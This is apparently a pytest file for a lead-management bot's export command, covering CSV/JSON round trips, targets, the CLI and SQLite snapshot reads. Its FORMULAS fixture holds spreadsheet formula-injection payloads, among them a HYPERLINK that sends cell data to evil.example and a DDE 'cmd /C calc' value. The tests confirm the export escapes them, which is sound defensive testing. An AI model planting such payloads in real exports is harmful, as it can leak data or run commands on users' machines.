"""Exports: what `handoff export` writes reads back as the same leads; feedback and targets agree
with the fixture's hand count."""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import json
import sqlite3
from datetime import date
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.cli import build_parser, export_cmd
from bot.cli.import_cmd import read_rows
from bot.config import load_settings
from bot.domain.csv_headers import map_headers, row_to_lead
from bot.domain.lead_input import LeadIn, parse_lead
from bot.services.export import LEAD_IMPORT_COLUMNS, ExportKind, export_to_string
from bot.storage.db import make_session_factory
from bot.storage.targets import TargetRepo
from bot.storage.uow import UnitOfWork
from tests.conftest import is_postgres
from tests.metrics_fixture import NOW, insert_history, lead_row

TEAM = "T0TEAM"
UTC_TZ = ZoneInfo("UTC")


async def seed(engine: AsyncEngine) -> None:
    await insert_history(engine, TEAM)
    async with make_session_factory(engine)() as session, session.begin():
        tricky = lead_row(TEAM, 50, "03-15 09:00", "new", source="events", campaign="booth, hall 2")
        tricky.name = 'Zoë O\'Brien, "Zo"'
        tricky.title = "VP, Growth"
        tricky.phone = "+33 1 23 45 67 89"
        tricky.notes = 'Met at the booth; said "call me"\nnext week — =SUM(A1) <!channel>'
        tricky.score = 87
        tricky.region = "emea"
        tricky.segment = "mid-market"
        tricky.external_id = "crm-50"
        session.add(tricky)
        await TargetRepo(session).upsert(team_id=TEAM, metric="leads_delivered", period_kind="month",
                                         period_start=date(2026, 3, 1), segment="", value=12, by="U0ADMIN", at=NOW)  # fmt: skip
        await TargetRepo(session).upsert(team_id=TEAM, metric="deals_won", period_kind="month",
                                         period_start=date(2026, 2, 1), segment="", value=1, by="U0ADMIN", at=NOW)  # fmt: skip


async def export(
    engine: AsyncEngine, kind: ExportKind, fmt: str = "csv", since: date | None = None
) -> tuple[str, int]:
    async with UnitOfWork(make_session_factory(engine)) as uow:
        return await export_to_string(uow, TEAM, kind, fmt, since=since, now=NOW, tz=UTC_TZ)


async def test_leads_export_round_trips_through_the_lead_parser(engine: AsyncEngine) -> None:
    await seed(engine)
    text, count = await export(engine, ExportKind.LEADS)
    assert count == 10
    header = next(csv.reader(io.StringIO(text)))
    assert tuple(header[: len(LEAD_IMPORT_COLUMNS)]) == LEAD_IMPORT_COLUMNS
    # read back exactly as `handoff import` reads a file
    headers, rows = read_rows(text)
    mapping = map_headers(headers)
    back = {lead.email: lead for lead in (parse_lead(row_to_lead(row, mapping)) for _, row in rows)}
    async with make_session_factory(engine)() as session:
        from sqlalchemy import select

        from bot.storage.models import Lead

        stored = list(await session.scalars(select(Lead).where(Lead.team_id == TEAM)))
    assert len(back) == len(stored) == 10
    for lead in stored:
        original = parse_lead(
            {c: getattr(lead, c) for c in LEAD_IMPORT_COLUMNS if getattr(lead, c) is not None}
        )
        assert back[lead.email] == original
    tricky: LeadIn = back["lead50@example.com"]
    assert tricky.name == 'Zoë O\'Brien, "Zo"' and tricky.notes.endswith("=SUM(A1) <!channel>")
    assert tricky.campaign == "booth, hall 2" and tricky.score == 87


async def test_since_and_json(engine: AsyncEngine) -> None:
    await seed(engine)
    text, count = await export(engine, ExportKind.LEADS, "json", since=date(2026, 3, 10))
    rows = json.loads(text)
    assert count == len(rows) == 3  # leads 5 (03-10), 6 (03-14), 50 (03-15)
    assert {r["email"] for r in rows} == {"lead5@example.com", "lead6@example.com", "lead50@example.com"}
    assert rows[0]["created_at"] == "2026-03-10T09:00:00+00:00"
    empty, none = await export(engine, ExportKind.LEADS, "json", since=date(2027, 1, 1))
    assert none == 0 and json.loads(empty) == []


async def test_feedback_export(engine: AsyncEngine) -> None:
    """Verdicts since 03-01: leads 1, 2, 4 accepted; 3 rejected (not_icp)."""
    await seed(engine)
    text, count = await export(engine, ExportKind.FEEDBACK, since=date(2026, 3, 1))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert count == 4
    verdicts = {r["email"]: (r["verdict"], r["quality"], r["reject_reason_label"]) for r in rows}
    assert verdicts == {
        "lead1@example.com": ("accepted", "5", ""),
        "lead2@example.com": ("accepted", "4", ""),
        "lead3@example.com": ("rejected", "2", "Not our ICP"),
        "lead4@example.com": ("accepted", "3", ""),
    }


async def test_targets_export_has_actuals(engine: AsyncEngine) -> None:
    """March: 12 leads wanted, 7 delivered (fixture's 6 + lead 50). February: 1 deal wanted, 0 won."""
    await seed(engine)
    text, _ = await export(engine, ExportKind.TARGETS)
    rows = {(r["period"], r["metric"]): r for r in csv.DictReader(io.StringIO(text))}
    march = rows[("March 2026", "leads_delivered")]
    assert (march["target"], march["actual"], march["scope"]) == ("12.0", "7.0", "whole team")
    february = rows[("February 2026", "deals_won")]
    assert (february["actual"], february["pace"], february["elapsed"]) == ("0.0", "behind", "1.0")
    _, count = await export(engine, ExportKind.TARGETS, since=date(2026, 3, 1))
    assert count == 1


async def test_cli_writes_a_file(engine: AsyncEngine, database_url: str, tmp_path) -> None:
    await seed(engine)
    args = build_parser().parse_args(
        ["export", "leads", "--since", "2026-03-14", "--output", str(tmp_path / "l.csv")]
    )
    assert args.func is export_cmd.run
    settings = load_settings(database_url=database_url)
    assert await export_cmd.run(settings, args) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "l.csv").read_text())))
    assert [r["email"] for r in rows] == ["lead6@example.com", "lead50@example.com"]


async def test_cli_reads_while_another_process_writes(
    engine: AsyncEngine, database_url: str, tmp_path
) -> None:
    """On SQLite the export reads a snapshot (make_read_engine): a writer (the running bot, in
    another process) neither waits for it nor holds it up."""
    if is_postgres(database_url):
        pytest.skip("SQLite's write lock")
    await seed(engine)
    other = sqlite3.connect(database_url.split("///", 1)[1], isolation_level=None, check_same_thread=False)
    try:
        other.execute("BEGIN IMMEDIATE")
        other.execute("DELETE FROM lead")  # not committed: the export does not see it
        args = build_parser().parse_args(["export", "leads", "--output", str(tmp_path / "l.csv")])
        async with asyncio.timeout(10):
            assert await export_cmd.run(load_settings(database_url=database_url), args) == 0
        other.execute("ROLLBACK")
    finally:
        other.close()
    assert len(list(csv.DictReader(io.StringIO((tmp_path / "l.csv").read_text())))) == 10


def test_cli_rejects_a_bad_date() -> None:
    with pytest.raises(SystemExit):
        build_parser().parse_args(["export", "leads", "--since", "yesterday"])


async def test_cli_asks_for_a_team_when_there_are_several(engine: AsyncEngine, database_url: str) -> None:
    from bot.config import ConfigError

    await seed(engine)
    await insert_history(engine, "T0OTHER")
    args = argparse.Namespace(kind="leads", since=None, format="csv", output=None, team=None)
    with pytest.raises(ConfigError, match="several workspaces"):
        await export_cmd.run(load_settings(database_url=database_url), args)


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "company": "+cmd|' /C calc'!A0",
    "title": "-2+3",
    "notes": "@SUM(1+1)",
    "campaign": "\t=1+1",
    "source": "\r=1+1",
    "region": "'=quoted already",
    "phone": "+44 20 7946 0000",
    "segment": "mid-market\r=1+1",  # a bare CR would start a new row in a spreadsheet
}


async def seed_formulas(engine: AsyncEngine) -> None:
    async with make_session_factory(engine)() as session, session.begin():
        evil = lead_row(TEAM, 60, "03-15 09:00", "new", score=-5, external_id="-60")
        for column, text in FORMULAS.items():
            setattr(evil, column, text)
        evil.reject_detail, evil.verdict_comment = "=1+1", "@evil"
        evil.rejected_at = evil.verdict_at = evil.created_at
        session.add(evil)


def formula_cells(text: str) -> list[str]:
    """Every cell a spreadsheet would evaluate: its first non-blank character starts a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.lstrip(" \n")[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


@pytest.mark.parametrize("kind", [ExportKind.LEADS, ExportKind.FEEDBACK])
async def test_csv_exports_quote_every_text_cell_a_spreadsheet_would_run(
    engine: AsyncEngine, kind: ExportKind
) -> None:
    await seed_formulas(engine)
    text, count = await export(engine, kind)
    assert count == 1
    # only the lead's score, a number a spreadsheet reads as -5 (the feedback export has none)
    assert formula_cells(text) == (["-5"] if kind is ExportKind.LEADS else [])
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["name"] == "'" + FORMULAS["name"] and row["company"] == "'" + FORMULAS["company"]
    if kind is ExportKind.LEADS:
        assert row["phone"] == "'+44 20 7946 0000" and row["region"] == "''=quoted already"
        assert row["score"] == "-5" and row["external_id"] == "'-60"
    else:
        assert row["comment"] == "'@evil" and row["reject_detail"] == "'=1+1"


async def test_json_exports_keep_the_text_as_it_is(engine: AsyncEngine) -> None:
    await seed_formulas(engine)
    text, _ = await export(engine, ExportKind.LEADS, "json")
    [row] = json.loads(text)
    assert {k: row[k] for k in FORMULAS} == FORMULAS and row["score"] == -5
